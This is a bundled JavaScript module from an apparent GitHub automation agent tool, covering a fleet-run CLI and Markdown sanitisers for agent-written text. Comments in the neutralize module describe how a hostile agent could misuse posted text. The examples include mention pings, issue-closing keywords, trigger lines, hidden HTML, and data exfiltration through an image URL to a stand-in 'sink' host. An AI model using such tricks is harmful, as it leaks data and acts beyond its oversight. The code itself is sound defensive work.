export const id = 788;
export const ids = [788];
export const modules = {

/***/ 80788:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  main: () => (/* binding */ main),
  perRepositoryBudget: () => (/* binding */ perRepositoryBudget)
});

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
;// CONCATENATED MODULE: ./src/github/fleet-repositories.ts
/** GitHub refuses a matrix of more than 256 jobs. */
const MAX_MATRIX_JOBS = 256;
const FULL_NAME = /^[\w.-]+\/[\w.-]+$/;
class FleetError extends Error {
}
/** owner/name of every repository the source names, sorted, without duplicates, archived ones left out. */
async function listFleetRepositories(octokit, source) {
    let names;
    if (source.kind === "list") {
        const bad = source.repositories.find((r) => !FULL_NAME.test(r));
        if (bad !== undefined)
            throw new FleetError(`"${bad}" is not owner/name`);
        names = source.repositories;
    }
    else {
        if (!octokit)
            throw new FleetError("listing repositories needs a token (GITHUB_TOKEN)");
        const live = (r) => !r.archived;
        if (source.kind === "installation") {
            const repos = await octokit.paginate(octokit.rest.apps.listReposAccessibleToInstallation, { per_page: 100 });
            names = repos.filter(live).map((r) => r.full_name);
        }
        else {
            const repos = await octokit.paginate(octokit.rest.repos.listForOrg, { org: source.owner, per_page: 100 });
            names = repos.filter((r) => live(r) && (r.topics ?? []).includes(source.topic)).map((r) => r.full_name);
        }
    }
    // The organisation's `.github` repository holds configuration, not code to run chores on.
    return [...new Set(names)].filter((n) => !n.toLowerCase().endsWith("/.github")).sort();
}

// EXTERNAL MODULE: ./src/report/neutralize.ts
var neutralize = __webpack_require__(26595);
;// CONCATENATED MODULE: ./src/report/fleet-summary.ts
// `repo-agent fleet summary`: one table for a fleet run from the outputs of each matrix job (the action's outputs
// as the workflow wrote them), with the fleet's spending beside its budget. Pure: data in, Markdown out.

const FLEET_MARKER_PREFIX = "<!-- repo-agent-fleet:";
/** The hidden line that finds a fleet's issue again on the next run. */
function fleetMarker(title) {
    return `${FLEET_MARKER_PREFIX}${encodeURIComponent(title)} -->`;
}
function totalCost(results) {
    return results.reduce((sum, r) => sum + (r.costUsd ?? 0), 0);
}
function renderFleetSummary(input) {
    const rows = [...input.results].sort((a, b) => a.repository.localeCompare(b.repository));
    // A pipe would end the cell: escaped, as GitHub's tables read it.
    const cell = (text) => (0,neutralize/* neutralizeInline */.bo)(text).replace(/\|/g, "\\|");
    const lines = [
        `## ${cell(input.title)}`,
        "",
        "| repository | conclusion | pull request | verified | cost | note |",
        "| --- | --- | --- | --- | --- | --- |",
        ...rows.map((r) => [
            "",
            `\`${r.repository}\``,
            r.conclusion ?? "no result",
            r.prUrl ? `[${r.prUrl.replace(/^https?:\/\/[^/]+\//, "")}](${r.prUrl})` : "—",
            r.verified === undefined ? "—" : r.verified ? "✓" : "✗",
            r.costUsd === undefined ? "—" : `$${r.costUsd.toFixed(2)}`,
            r.error ? cell(r.error.slice(0, 300)) : "",
            "",
        ]
            .join(" | ")
            .trim()),
        ...(input.missing ?? []).map((name) => `| \`${name}\` | no result | — | — | — | the job left no outputs (cancelled?) |`),
        "",
    ];
    const counts = new Map();
    for (const r of rows)
        counts.set(r.conclusion ?? "no result", (counts.get(r.conclusion ?? "no result") ?? 0) + 1);
    const spent = totalCost(rows);
    const budget = input.budgetUsd === undefined
        ? ""
        : spent > input.budgetUsd
            ? ` — **over the fleet budget of $${input.budgetUsd.toFixed(2)}**`
            : ` of the fleet budget of $${input.budgetUsd.toFixed(2)}`;
    lines.push(`${rows.length + (input.missing?.length ?? 0)} repositories: ${[...counts]
        .sort(([a], [b]) => a.localeCompare(b))
        .map(([c, n]) => `${n} ${c}`)
        .join(", ")}. Spent $${spent.toFixed(2)}${budget}.`);
    if (input.runUrl)
        lines.push("", `[The run](${input.runUrl})`);
    return `${lines.join("\n")}\n`;
}

// EXTERNAL MODULE: ./src/cli/output.ts
var output = __webpack_require__(96657);
;// CONCATENATED MODULE: ./src/cli/fleet.ts
// `repo-agent fleet list|summary`: the first and last jobs of a central workflow that runs a chore across many
// repositories on Actions' own matrix (README "Fleet chores"). Exit codes: 0 done, 1 GitHub failed, 2 usage.





const USAGE = `usage:
  repo-agent fleet list (--installation | --topic TOPIC --owner ORG | --repositories "a/b,c/d")
                        [--max-cost-usd N] [--budget-usd N]
  repo-agent fleet summary --results DIR [--matrix JSON] [--budget-usd N] [--title TEXT] [--issue]

list prints the matrix ({"include":[{"repository":…,"name":…,"max_cost_usd":…}]}) and, in a workflow, sets the outputs
matrix and count. Each repository's max_cost_usd is --max-cost-usd, lowered to --budget-usd divided by the number
of repositories, so the matrix as a whole cannot spend more than the fleet budget.
summary reads the JSON files the matrix jobs left in DIR (the action's outputs), writes one table to the job
summary and, with --issue, to one issue in GITHUB_REPOSITORY that each run updates instead of opening another.
GitHub is read with GITHUB_TOKEN at GITHUB_API_URL.
`;
class UsageError extends Error {
}
function parseFlags(argv, known) {
    const flags = {};
    for (let i = 0; i < argv.length; i++) {
        const name = argv[i].replace(/^--/, "");
        const kind = argv[i].startsWith("--") ? known[name] : undefined;
        if (!kind)
            throw new UsageError(`unknown argument ${JSON.stringify(argv[i])}`);
        if (kind === "switch")
            flags[name] = true;
        else {
            const value = argv[++i];
            if (value === undefined)
                throw new UsageError(`--${name} needs a value`);
            flags[name] = value;
        }
    }
    return flags;
}
function money(flags, name) {
    const raw = flags[name];
    if (raw === undefined)
        return undefined;
    const value = Number(raw);
    if (typeof raw !== "string" || !Number.isFinite(value) || value <= 0)
        throw new UsageError(`--${name} must be a positive number of US dollars`);
    return value;
}
async function main(argv, out = output/* processOutput */.X, env = process.env) {
    const [sub, ...rest] = argv;
    try {
        if (sub === "list")
            return await list(rest, out, env);
        if (sub === "summary")
            return await summary(rest, out, env);
        if (sub === undefined || sub === "help" || sub === "--help" || sub === "-h") {
            out.stdout(USAGE);
            return sub === undefined ? 2 : 0;
        }
        throw new UsageError(`unknown subcommand ${JSON.stringify(sub)}`);
    }
    catch (err) {
        if (err instanceof UsageError || err instanceof FleetError) {
            out.stderr(`repo-agent fleet: ${err.message}\n${err instanceof UsageError ? `\n${USAGE}` : ""}`);
            return 2;
        }
        throw err;
    }
}
async function octokitFrom(env) {
    const token = env.GITHUB_TOKEN || env.GH_TOKEN;
    if (!token)
        return undefined;
    const { createOctokit } = await Promise.all(/* import() */[__webpack_require__.e(167), __webpack_require__.e(702)]).then(__webpack_require__.bind(__webpack_require__, 6702));
    return createOctokit({ token, baseUrl: env.GITHUB_API_URL || "https://api.github.com" });
}
async function list(argv, out, env) {
    const flags = parseFlags(argv, {
        installation: "switch",
        topic: "value",
        owner: "value",
        repositories: "value",
        "max-cost-usd": "value",
        "budget-usd": "value",
    });
    const sources = ["installation", "topic", "repositories"].filter((k) => flags[k] !== undefined);
    if (sources.length !== 1)
        throw new UsageError("give one of --installation, --topic or --repositories");
    let source;
    if (flags.installation)
        source = { kind: "installation" };
    else if (typeof flags.topic === "string") {
        const owner = flags.owner ?? env.GITHUB_REPOSITORY_OWNER;
        if (typeof owner !== "string" || !owner)
            throw new UsageError("--topic needs --owner (or GITHUB_REPOSITORY_OWNER)");
        source = { kind: "topic", owner, topic: flags.topic };
    }
    else {
        const names = String(flags.repositories)
            .split(/[\s,]+/)
            .filter(Boolean);
        source = { kind: "list", repositories: names };
    }
    const repositories = await listFleetRepositories(await octokitFrom(env), source);
    if (repositories.length > MAX_MATRIX_JOBS)
        throw new FleetError(`${repositories.length} repositories: a matrix runs at most ${MAX_MATRIX_JOBS} jobs; split the fleet`);
    const perRepository = perRepositoryBudget(money(flags, "max-cost-usd"), money(flags, "budget-usd"), repositories.length);
    const matrix = {
        include: repositories.map((repository) => ({
            repository,
            // The name alone, for actions/create-github-app-token's `repositories` (a token for this repository only).
            name: repository.split("/")[1],
            ...(perRepository === undefined ? {} : { max_cost_usd: perRepository.toFixed(2) }),
        })),
    };
    const json = JSON.stringify(matrix);
    out.stdout(`${json}\n`);
    if (env.GITHUB_OUTPUT)
        await (0,promises_.appendFile)(env.GITHUB_OUTPUT, `matrix=${json}\ncount=${repositories.length}\n`);
    return 0;
}
/** The cap each matrix job gets: the per-repository cap, lowered so that all of them together stay within the
 * fleet's budget (rounded down to the cent). */
function perRepositoryBudget(perRepo, fleet, count) {
    if (fleet === undefined || count === 0)
        return perRepo;
    const share = Math.floor((fleet / count) * 100) / 100;
    if (share < 0.01)
        throw new FleetError(`a fleet budget of $${fleet} cannot be shared among ${count} repositories`);
    return perRepo === undefined ? share : Math.min(perRepo, share);
}
async function summary(argv, out, env) {
    const flags = parseFlags(argv, {
        results: "value",
        matrix: "value",
        "budget-usd": "value",
        title: "value",
        issue: "switch",
    });
    if (typeof flags.results !== "string")
        throw new UsageError("--results DIR is required");
    const results = await readResults(flags.results);
    const expected = typeof flags.matrix === "string" ? matrixRepositories(flags.matrix) : [];
    const seen = new Set(results.map((r) => r.repository.toLowerCase()));
    const title = typeof flags.title === "string" ? flags.title : "repo-agent fleet run";
    const runUrl = env.GITHUB_SERVER_URL && env.GITHUB_REPOSITORY && env.GITHUB_RUN_ID
        ? `${env.GITHUB_SERVER_URL}/${env.GITHUB_REPOSITORY}/actions/runs/${env.GITHUB_RUN_ID}`
        : undefined;
    const markdown = renderFleetSummary({
        results,
        missing: expected.filter((r) => !seen.has(r.toLowerCase())),
        budgetUsd: money(flags, "budget-usd"),
        runUrl,
        title,
    });
    out.stdout(markdown);
    if (env.GITHUB_STEP_SUMMARY)
        await (0,promises_.appendFile)(env.GITHUB_STEP_SUMMARY, markdown);
    if (flags.issue)
        out.stdout(`issue: ${await upsertIssue(env, title, markdown)}\n`);
    return 0;
}
function matrixRepositories(json) {
    try {
        const data = JSON.parse(json);
        return (data.include ?? []).map((e) => e.repository).filter((r) => typeof r === "string");
    }
    catch {
        throw new UsageError("--matrix must be the JSON that fleet list printed");
    }
}
/** Every `*.json` in DIR (and one level below, as download-artifact leaves them without merge-multiple). */
async function readResults(dir) {
    let entries;
    try {
        entries = await (0,promises_.readdir)(dir, { withFileTypes: true, recursive: true });
    }
    catch (err) {
        throw new UsageError(`cannot read ${dir}: ${err.message}`);
    }
    const files = entries
        .filter((e) => e.isFile() && e.name.endsWith(".json"))
        .map((e) => external_node_path_default().join(e.parentPath, e.name));
    const results = [];
    for (const file of files.sort()) {
        let data;
        try {
            data = JSON.parse(await (0,promises_.readFile)(file, "utf8"));
        }
        catch {
            throw new FleetError(`${file} is not JSON`);
        }
        results.push(toResult(data, file));
    }
    return results;
}
/** One matrix job's record: `{repository, outcome, outputs}` as the README's workflow writes it, or the bare
 * outputs object (which names the repository itself). */
function toResult(data, file) {
    const outputs = (typeof data.outputs === "object" && data.outputs !== null ? data.outputs : data);
    const text = (v) => (typeof v === "string" && v.trim() !== "" ? v.trim() : undefined);
    const repository = text(data.repository) ?? text(outputs.repository);
    if (!repository)
        throw new FleetError(`${file} does not say which repository it is about`);
    const cost = Number(text(outputs.cost_usd));
    const verified = text(outputs.verified);
    return {
        repository,
        conclusion: text(outputs.conclusion) ?? (text(data.outcome) === "failure" ? "failed" : undefined),
        prUrl: text(outputs.pr_url),
        verified: verified === undefined ? undefined : verified === "true",
        costUsd: Number.isFinite(cost) ? cost : undefined,
        error: text(outputs.error),
    };
}
/** The fleet's issue in the central repository, found by its hidden marker: updated, or opened on the first run. */
async function upsertIssue(env, title, markdown) {
    const octokit = await octokitFrom(env);
    const [owner, repo] = (env.GITHUB_REPOSITORY ?? "").split("/");
    if (!octokit || !owner || !repo)
        throw new FleetError("--issue needs GITHUB_TOKEN and GITHUB_REPOSITORY");
    const marker = fleetMarker(title);
    const body = `${marker}\n${markdown}`;
    const open = await octokit.paginate(octokit.rest.issues.listForRepo, { owner, repo, state: "open", per_page: 100 });
    const existing = open.find((i) => !i.pull_request && (i.body ?? "").startsWith(marker));
    if (existing) {
        const { data } = await octokit.rest.issues.update({ owner, repo, issue_number: existing.number, body });
        return data.html_url;
    }
    const { data } = await octokit.rest.issues.create({ owner, repo, title, body });
    return data.html_url;
}


/***/ }),

/***/ 96657:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   X: () => (/* binding */ processOutput)
/* harmony export */ });
const processOutput = {
    stdout: (text) => void process.stdout.write(text),
    stderr: (text) => void process.stderr.write(text),
};


/***/ }),

/***/ 69183:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   It: () => (/* binding */ cleanForMarkdown),
/* harmony export */   SO: () => (/* binding */ truncateEnd),
/* harmony export */   ZD: () => (/* binding */ escapeHtml),
/* harmony export */   kU: () => (/* binding */ truncateMiddle),
/* harmony export */   ti: () => (/* binding */ inlineCode),
/* harmony export */   zW: () => (/* binding */ fencedBlock)
/* harmony export */ });
/* unused harmony export fenceFor */
/* harmony import */ var _truncate_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6689);
// Containers that the text inside them cannot break out of. Tool output is written by a possibly hostile agent:
// a ``` in it must not close our fence and turn the rest of the comment into live Markdown (images, mentions,
// fake "approved" banners). Truncation itself is THE helper in src/truncate.ts; this module only adds what
// Markdown needs on top of it.

/** A backtick fence longer than any backtick run in `content` (at least 3), so no line of it can close the
 * block. */
function fenceFor(content) {
    return "`".repeat(Math.max(3, longestRun(content, "`") + 1));
}
/** A fenced code block holding `content` verbatim (after `cleanForMarkdown`). Info string is kept to a safe
 * word: an info string cannot contain backticks for backtick fences. */
function fencedBlock(content, info = "") {
    const body = cleanForMarkdown(content).replace(/\n+$/, "");
    const fence = fenceFor(body);
    const lang = /^[A-Za-z0-9_+.-]{0,20}$/.test(info) ? info : "";
    return `${fence}${lang}\n${body}\n${fence}`;
}
/** An inline code span for `text` on one line: the delimiter run is longer than any run inside, and a space pads
 * content that starts or ends with a backtick (CommonMark strips one space from each side). */
function inlineCode(text) {
    const oneLine = cleanForMarkdown(text).replace(/\s*\n\s*/g, " ");
    if (oneLine.length === 0)
        return "` `";
    const ticks = "`".repeat(longestRun(oneLine, "`") + 1);
    const pad = oneLine.startsWith("`") || oneLine.endsWith("`") || /^ .* $/.test(oneLine) ? " " : "";
    return `${ticks}${pad}${oneLine}${pad}${ticks}`;
}
/** Escape text for an HTML context such as `<summary>`, where Markdown is not rendered but tags are. */
function escapeHtml(text) {
    return text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
}
// ANSI escape sequences (colours, cursor moves) from tool output: noise in a comment.
// eslint-disable-next-line no-control-regex
const ANSI = /\u001b(?:\[[0-9;?]*[ -/]*[@-~]|\][^\u0007\u001b]*(?:\u0007|\u001b\\)|[@-Z\\-_])/g;
// C0/C1 controls other than tab and newline: GitHub may reject or mangle them.
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]/g;
/** Normalise text for a Markdown body: CRLF → LF, ANSI sequences dropped, control characters replaced, lone
 * surrogates made well-formed (a JSON body with half a pair is rejected or mangled). */
function cleanForMarkdown(text) {
    return toWellFormed(text.replace(/\r\n?/g, "\n").replace(ANSI, "").replace(CONTROL, "\uFFFD"));
}
/** Keep head and tail of `text` within `maxChars`, never splitting a surrogate pair (THE truncation helper). */
function truncateMiddle(text, maxChars) {
    return (0,_truncate_js__WEBPACK_IMPORTED_MODULE_0__/* .truncateHeadTail */ .j)(text, Math.max(0, maxChars)).text;
}
/** Cut to at most `maxChars` from the start, never inside a surrogate pair. */
function truncateEnd(text, maxChars, ellipsis = "…") {
    if (text.length <= maxChars)
        return text;
    let end = Math.max(0, maxChars - ellipsis.length);
    if (end > 0 && isHighSurrogate(text.charCodeAt(end - 1)))
        end--;
    return text.slice(0, end) + ellipsis;
}
function toWellFormed(text) {
    const s = text;
    if (typeof s.toWellFormed === "function")
        return s.toWellFormed();
    return text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, "\uFFFD");
}
function longestRun(text, ch) {
    let best = 0;
    let run = 0;
    for (let i = 0; i < text.length; i++) {
        if (text[i] === ch) {
            run++;
            if (run > best)
                best = run;
        }
        else
            run = 0;
    }
    return best;
}
function isHighSurrogate(code) {
    return code >= 0xd800 && code <= 0xdbff;
}


/***/ }),

/***/ 26595:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   bo: () => (/* binding */ neutralizeInline),
/* harmony export */   d$: () => (/* binding */ neutralizeMarkdown),
/* harmony export */   j$: () => (/* binding */ neutralizeTriggerLines),
/* harmony export */   jQ: () => (/* binding */ defangMentions)
/* harmony export */ });
/* unused harmony exports neutralizePlainText, isTrustedUrl */
/* harmony import */ var _fence_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(69183);
// Agent-authored text is posted under the action's identity, so a hostile agent could use it to ping people
// (`@org/team`), close unrelated issues (`fixes #1` in a PR body), start another run (`/agent …`), hide markup
// (`<!-- -->`), or exfiltrate data through an image GitHub's camo proxy fetches (`![x](http://sink/?d=…)`).
// This module makes such text inert while keeping it readable. Code (column-0 fences and one-line code spans)
// is left verbatim: GitHub renders nothing inside it. Everything we are unsure about is treated as prose, the
// safe direction: prose gets neutralised, code does not.

const DEFAULT_TRUSTED_HOSTS = ["github.com", "*.github.com", "*.githubusercontent.com"];
// Characters that reorder or hide text; stripped from agent text everywhere.
const BIDI_AND_INVISIBLE = /[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C\u2060-\u2064\uFEFF\u180E\uE000\u{E0000}-\u{E007F}]/gu;
const ZWSP = "\u200B";
// Marks the edges of code spans while a line is rebuilt: two spans that end up touching would merge their
// backtick runs (`a``b`) and turn both into prose. A private-use character, stripped from input beforehand.
const EDGE = "\uE000";
const EDGES = /\uE000/g;
/** Neutralise agent-authored Markdown for posting: mentions, closing keywords, trigger lines, raw HTML,
 * images and links to untrusted hosts. */
function neutralizeMarkdown(text, options = {}) {
    const clean = (0,_fence_js__WEBPACK_IMPORTED_MODULE_0__/* .cleanForMarkdown */ .It)(text).replace(BIDI_AND_INVISIBLE, "");
    const out = splitFencedBlocks(clean)
        .map((block) => (block.code ? block.text : neutralizeProse(block.text, options)))
        .join("");
    return options.trigger ? neutralizeTriggerLines(out, options.trigger) : out;
}
/** Neutralise agent text destined for one line of Markdown (a heading, a list item, a table cell): newlines
 * collapse to spaces and no fence is recognised, so nothing can open a block that runs past the line. */
function neutralizeInline(text, options = {}) {
    const line = (0,_fence_js__WEBPACK_IMPORTED_MODULE_0__/* .cleanForMarkdown */ .It)(text).replace(BIDI_AND_INVISIBLE, "").replace(/\s+/g, " ").trim();
    const out = neutralizeLine(line, options);
    return options.trigger ? neutralizeTriggerLines(out, options.trigger) : out;
}
/** For text GitHub shows but does not render as Markdown (commit messages): no HTML escaping or code spans
 * (they would show literally), only what GitHub acts on there — closing keywords (a merged commit closes the
 * issue), mentions and trigger lines. */
function neutralizePlainText(text, options = {}) {
    const clean = text.replace(/\r\n?/g, "\n").replace(BIDI_AND_INVISIBLE, "");
    const out = defangMentions(clean).replace(CLOSING, (whole, keyword, gap, repoA, numA, repoB, numB) => isAllowedClosing(options.allowClosing, repoA ?? repoB, numA ?? numB)
        ? whole
        : `${keyword[0]}${ZWSP}${keyword.slice(1)}${gap}`);
    return options.trigger ? neutralizeTriggerLines(out, options.trigger) : out;
}
/** Mentions made non-pinging for contexts where Markdown is not rendered but text is (HTML `<summary>`,
 * titles): a zero-width space after `@`. */
function defangMentions(text) {
    return text.replace(/@(?=[A-Za-z0-9])/g, `@${ZWSP}`);
}
/** No line may start with the trigger phrase, whatever precedes it that GitHub or our own trigger parser might
 * strip (indentation, quote and list markers, invisible characters): a backslash goes before the phrase. In
 * Markdown `\/agent` renders as `/agent`; in code it shows the backslash, which is the point. */
function neutralizeTriggerLines(text, trigger) {
    const phrase = trigger.trim();
    if (!phrase)
        return text;
    const lead = "[ \\t\\u200B-\\u200F\\u2060-\\u2064\\uFEFF>]*(?:(?:[-*+]|\\d{1,9}[.)])[ \\t]+)?[ \\t\\u200B-\\u200F\\u2060-\\u2064\\uFEFF>]*";
    const re = new RegExp(`^(${lead})(?=${escapeRegExp(phrase)})`, "gimu");
    return text.replace(re, "$1\\");
}
/** Splits text into fenced code blocks and everything else. A fence may be indented up to three spaces (as in a
 * list item); its block also ends at the first non-blank line indented less than the fence, because GitHub
 * ends the list item there and the line is prose again. An unclosed fence is closed at the end, so agent text
 * can never swallow what we put after it. When unsure, a line is prose: prose gets neutralised, code does not. */
function splitFencedBlocks(text) {
    const lines = text.split(/(?<=\n)/);
    const blocks = [];
    let prose = "";
    let code = "";
    let fence;
    for (const line of lines) {
        const bare = line.replace(/\n$/, "");
        if (fence) {
            const indent = /^ */.exec(bare)[0].length;
            const close = /^ {0,3}(`+|~+)[ \t]*$/.exec(bare);
            if (close && close[1][0] === fence.ch && close[1].length >= fence.len) {
                blocks.push({ code: true, text: code + line });
                code = "";
                fence = undefined;
                continue;
            }
            if (bare.trim() === "" || indent >= fence.indent) {
                code += line;
                continue;
            }
            blocks.push({ code: true, text: closeFence(code, fence) });
            code = "";
            fence = undefined;
        }
        // A backtick fence's info string may not contain a backtick (else it is an inline code span).
        const open = /^( {0,3})(`{3,})[^`]*$/.exec(bare) ?? /^( {0,3})(~{3,})/.exec(bare);
        if (open) {
            if (prose)
                blocks.push({ code: false, text: prose });
            prose = "";
            fence = { ch: open[2][0], len: open[2].length, indent: open[1].length };
            code = line;
            continue;
        }
        prose += line;
    }
    if (fence)
        blocks.push({ code: true, text: closeFence(code, fence) });
    if (prose)
        blocks.push({ code: false, text: prose });
    return blocks;
}
function closeFence(code, fence) {
    return `${code}${code.endsWith("\n") ? "" : "\n"}${" ".repeat(fence.indent)}${fence.ch.repeat(fence.len)}\n`;
}
function neutralizeProse(text, options) {
    return text
        .split(/(?<=\n)/)
        .map((line) => neutralizeLine(line, options))
        .join("");
}
function neutralizeLine(line, options) {
    // A link reference definition (`[x]: http://sink`) would make `![x]` elsewhere an image: make it plain text.
    const defined = line.replace(/^( {0,3})\[(?=[^\]\n]+\]:)/, "$1\\[");
    return splitCodeSpans(defined)
        .map((piece) => (piece.code ? `${EDGE}${piece.text}${EDGE}` : neutralizeLinks(piece.text, options)))
        .join("")
        .replace(/`\uE000+`/g, `\`${ZWSP}\``)
        .replace(EDGES, "");
}
/** One-line code spans, found as CommonMark does (a run of n backticks closed by the next run of exactly n,
 * backslash-escaped backticks do not open). A span holding `|` is treated as prose: in a table, cells split
 * first and the "span" may not exist. */
function splitCodeSpans(line) {
    const pieces = [];
    let prose = "";
    let i = 0;
    while (i < line.length) {
        if (line[i] !== "`") {
            prose += line[i++];
            continue;
        }
        let run = 1;
        while (line[i + run] === "`")
            run++;
        let open = i;
        let len = run;
        if (precedingBackslashes(line, i) % 2 === 1) {
            // The first backtick is escaped; the rest of the run may still open a span.
            prose += "`";
            open = i + 1;
            len = run - 1;
        }
        const close = len > 0 ? findRun(line, open + len, len) : -1;
        const content = close === -1 ? "" : line.slice(open + len, close);
        if (close === -1 || content.includes("|")) {
            prose += line.slice(open, open + len);
            i = open + len;
            continue;
        }
        if (prose)
            pieces.push({ code: false, text: prose });
        prose = "";
        pieces.push({ code: true, text: line.slice(open, close + len) });
        i = close + len;
    }
    if (prose)
        pieces.push({ code: false, text: prose });
    return pieces;
}
function findRun(line, from, len) {
    let i = from;
    while (i < line.length) {
        if (line[i] !== "`") {
            i++;
            continue;
        }
        let run = 1;
        while (line[i + run] === "`")
            run++;
        if (run === len)
            return i;
        i += run;
    }
    return -1;
}
function precedingBackslashes(text, index) {
    let n = 0;
    for (let j = index - 1; j >= 0 && text[j] === "\\"; j--)
        n++;
    return n;
}
// `[text](url "title")` and `![alt](url)`, the inline forms; anything this misses is disarmed by `![` → `!\[`.
const LINK = /(!?)\[([^[\]\n]*)\]\(\s*<?([^\s()<>]+)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?\s*\)/g;
function neutralizeLinks(text, options) {
    let out = "";
    let last = 0;
    for (const m of text.matchAll(LINK)) {
        const [whole, bang, label, url] = m;
        const start = m.index ?? 0;
        out += neutralizeText(text.slice(last, start), options);
        last = start + whole.length;
        if (isTrustedUrl(url, options.trustedHosts ?? DEFAULT_TRUSTED_HOSTS)) {
            out += `${bang}[${neutralizeText(label, options)}](${url})`;
        }
        else if (bang) {
            // An image GitHub's camo would fetch: show the markup as code instead.
            out += `${EDGE}${(0,_fence_js__WEBPACK_IMPORTED_MODULE_0__/* .inlineCode */ .ti)(whole)}${EDGE}`;
        }
        else {
            out += `${neutralizeText(label, options)} (${EDGE}${(0,_fence_js__WEBPACK_IMPORTED_MODULE_0__/* .inlineCode */ .ti)(url)}${EDGE})`;
        }
    }
    return out + neutralizeText(text.slice(last), options);
}
// A GitHub user or team handle after `@`, not inside a word (so e-mail addresses stay as they are).
const MENTION = /(?<![A-Za-z0-9])@([A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?(?:\/[A-Za-z0-9][A-Za-z0-9_.-]*)?)/g;
const CLOSING = /(?<![A-Za-z0-9])(close[sd]?|fix(?:e[sd])?|resolve[sd]?)(\s*:?\s+)(?=(?:([A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+))?#(\d+)|https?:\/\/[^\s/]+\/([^\s/]+\/[^\s/]+)\/(?:issues|pull)\/(\d+))/gi;
/** Prose with no code spans and no links left in it. */
function neutralizeText(text, options) {
    const escaped = text
        // Every backtick here is literal; escaping it keeps the spans we add below paired as we intend.
        .replace(/`/g, (tick, offset) => (precedingBackslashes(text, offset) % 2 === 0 ? "\\`" : tick))
        // Raw HTML: comments hide text, tags render images. Entities would turn `&#64;` into a live `@`.
        .replace(/&/g, "&amp;")
        .replace(/</g, "&lt;")
        .replace(/!\[/g, "!\\[");
    // Handles become code; any other `@` before a word character (e-mail-like `a@b`, which a neighbouring span
    // could leave at the start of a text node) gets the zero-width space too.
    const mentioned = escaped.replace(MENTION, `${EDGE}\`@${ZWSP}$1\`${EDGE}`).replace(/@(?=[A-Za-z0-9])/g, `@${ZWSP}`);
    return mentioned.replace(CLOSING, (whole, keyword, gap, repoA, numA, repoB, numB) => {
        if (isAllowedClosing(options.allowClosing, repoA ?? repoB, numA ?? numB))
            return whole;
        return `${EDGE}\`${keyword}\`${EDGE}${gap}`;
    });
}
function isAllowedClosing(allow, repo, num) {
    if (!allow || num === undefined || Number(num) !== allow.issue)
        return false;
    if (repo === undefined)
        return true;
    return allow.repo !== undefined && repo.toLowerCase() === allow.repo.toLowerCase();
}
/** Whether a URL points at a trusted host over https (relative links and anchors are GitHub's own). */
function isTrustedUrl(url, trustedHosts = DEFAULT_TRUSTED_HOSTS) {
    if (url.startsWith("#"))
        return true;
    let parsed;
    try {
        parsed = new URL(url);
    }
    catch {
        // Relative paths resolve against github.com; protocol-relative `//host` does parse above with a base only.
        return !url.startsWith("//") && !/^[a-z][a-z0-9+.-]*:/i.test(url);
    }
    if (parsed.protocol !== "https:")
        return false;
    const host = parsed.hostname.toLowerCase();
    return trustedHosts.some((entry) => {
        const e = entry.toLowerCase();
        return e.startsWith("*.") ? host.endsWith(e.slice(1)) : host === e;
    });
}
function escapeRegExp(text) {
    return text.replace(/[.*+?^${}()|[\]\\/-]/g, "\\$&");
}


/***/ }),

/***/ 6689:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   j: () => (/* binding */ truncateHeadTail)
/* harmony export */ });
// THE truncation helper (style.md: one way to do a thing). Long output keeps its head and its tail, because
// the start says what ran and the end says how it ended (the failing test, the exit status); the middle is
// replaced by a marker saying exactly how much was cut, so the model never believes it saw everything.
/** Keep the head and tail of `text` within `maxChars` (marker included). Cuts prefer line boundaries near the
 * budget and never split a UTF-16 surrogate pair. */
function truncateHeadTail(text, maxChars) {
    const total = text.length;
    if (total <= maxChars) {
        return {
            text,
            truncated: false,
            totalChars: total,
            headChars: total,
            tailChars: 0,
            omittedChars: 0,
            omittedLines: 0,
        };
    }
    // Reserve room for the widest marker this text could need, so the result never exceeds maxChars.
    const reserve = elisionMarker(total, countLines(text)).length;
    const budget = Math.max(0, maxChars - reserve);
    let headEnd = cutHead(text, Math.ceil(budget / 2));
    let tailStart = cutTail(text, total - Math.floor(budget / 2));
    if (tailStart < headEnd)
        tailStart = headEnd;
    if (budget === 0)
        headEnd = tailStart = 0;
    const omitted = text.slice(headEnd, tailStart);
    const marker = elisionMarker(omitted.length, countLines(omitted));
    const head = text.slice(0, headEnd);
    const tail = text.slice(tailStart);
    const shown = budget === 0 ? marker.trim().slice(0, maxChars) : head + marker + tail;
    return {
        text: shown,
        truncated: true,
        totalChars: total,
        headChars: head.length,
        tailChars: budget === 0 ? 0 : tail.length,
        omittedChars: budget === 0 ? total : omitted.length,
        omittedLines: budget === 0 ? countLines(text) : countLines(omitted),
    };
}
function elisionMarker(chars, lines) {
    return `\n[… ${chars} chars (${lines} lines) omitted …]\n`;
}
/** Lines touched by `text`: newlines, plus one for a trailing partial line. */
function countLines(text) {
    if (text.length === 0)
        return 0;
    let n = 0;
